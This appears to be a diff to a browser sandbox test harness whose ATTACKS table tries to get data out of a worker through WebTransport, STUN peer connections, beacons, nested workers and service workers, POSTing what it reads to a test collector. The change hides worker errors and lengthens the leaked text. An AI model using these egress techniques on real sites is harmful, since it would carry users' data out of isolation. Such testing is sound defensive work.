@@ -11,6 +11,13 @@ const done = (asked) => new Promise((resolve, reject) => {
   asked.onerror = () => reject(asked.error)
 })
 
+/** Start a worker that keeps what it fails at to itself. */
+function start(address, options) {
+  const there = new Worker(address, options)
+  there.onerror = (event) => event.preventDefault()
+  return there
+}
+
 /** A global by its descriptor, on the scope or on what it inherits from. */
 function recovered(name) {
   for (let place = self; place; place = Object.getPrototypeOf(place)) {
@@ -56,10 +63,10 @@ const ATTACKS = {
     navigator.sendBeacon(at, "x")
   },
   async web_transport() {
-    await new WebTransport(`https://127.0.0.1:${GIVEN.ports.web_transport}/`).ready
+    await new WebTransport(`https://127.0.0.1:${GIVEN.ports.free_web_transport}/`).ready
   },
   async peer_connection() {
-    const urls = `stun:127.0.0.1:${GIVEN.ports.peer_connection}`
+    const urls = `stun:127.0.0.1:${GIVEN.ports.free_peer_connection}`
     const there = new RTCPeerConnection({iceServers: [{urls}]})
     there.createDataChannel("x")
     await there.setLocalDescription(await there.createOffer())
@@ -120,19 +127,19 @@ const ATTACKS = {
   },
   // workers in the worker
   async classic_blob_worker(at) {
-    new Worker(blob(ask(at)))
+    start(blob(ask(at)))
   },
   async module_blob_worker(at) {
-    new Worker(blob(`import '${at}x.js'`), {type: "module"})
+    start(blob(`import '${at}x.js'`), {type: "module"})
   },
   async data_worker(at) {
-    new Worker("data:text/javascript," + encodeURIComponent(ask(at)))
+    start("data:text/javascript," + encodeURIComponent(ask(at)))
   },
   async worker_of_a_worker(at) {
-    new Worker(blob(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(ask(at))}])))`))
+    start(blob(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(ask(at))}])))`))
   },
   async strangers_worker(at) {
-    new Worker(at + "x.js")
+    start(at + "x.js")
   },
   async shared_worker(at) {
     new SharedWorker(blob(ask(at)))
@@ -140,7 +147,7 @@ const ATTACKS = {
   async worker_of_the_sites_own_scripts(at) {
     const live = {runtime: "", files: [], python: ["x.js"], info: {}}
     for (const address of GIVEN.scripts)
-      new Worker(address, {type: "module"}).postMessage({start: {root: at, live}})
+      start(address, {type: "module"}).postMessage({start: {root: at, live}})
   },
   async service_worker() {
     await navigator.serviceWorker.register(GIVEN.site + "free_service_worker.js")
@@ -228,8 +235,11 @@ const ATTACKS = {
 
 for (const [name, attack] of Object.entries(ATTACKS)) {
   const at = `${GIVEN.collector}/free_${name}~`
+  const told = new Set()
   const read = (text) => {
-    postMessage([name, String(text).slice(0, 1500)])
+    if (told.has(text)) return
+    told.add(text)
+    postMessage([name, String(text).slice(0, 9000)])
     fetch(at, {method: "POST", body: `read: ${text}`}).catch(() => 0)
   }
   postMessage([name, ""])
